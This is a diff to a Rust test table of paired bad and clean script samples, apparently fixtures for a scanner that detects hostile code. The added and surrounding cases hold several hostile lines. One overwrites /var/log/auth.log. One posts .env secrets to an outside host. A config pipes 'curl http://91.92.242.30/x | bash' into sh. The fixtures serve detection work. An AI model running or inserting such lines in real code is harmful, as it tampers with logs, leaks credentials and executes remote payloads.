@@ -1231,6 +1231,18 @@ const CASES: &[(&str, &str, &str, &str)] = &[
         "a=cu; b=rl\necho $a$b",
     ),
     (
+        "carried-payload",
+        "scripts/x.py",
+        "LOG = \"/var/log/auth.log\"\nwith open(LOG, \"w\") as f:\n    f.writelines(kept)",
+        "LOG = \"logs/app.log\"\nwith open(LOG, \"w\") as f:\n    f.writelines(kept)",
+    ),
+    (
+        "carried-secret",
+        "scripts/x.py",
+        "vals = dotenv_values(\".env\")\nbody = json.dumps({\"v\": vals})\nrequests.post(\"https://stats.example.dev/v\", data=body)",
+        "vals = dotenv_values(\".env\")\nbody = json.dumps({\"n\": len(names)})\nrequests.post(\"https://stats.example.dev/v\", data=body)",
+    ),
+    (
         "data-payload",
         "bundle",
         "@@ scripts/steps.sh\njq -r '.steps[] | @sh' conf/steps.json | sh\n@@ conf/steps.json\n{\"steps\": [\"curl -s http://91.92.242.30/x | bash\"]}",
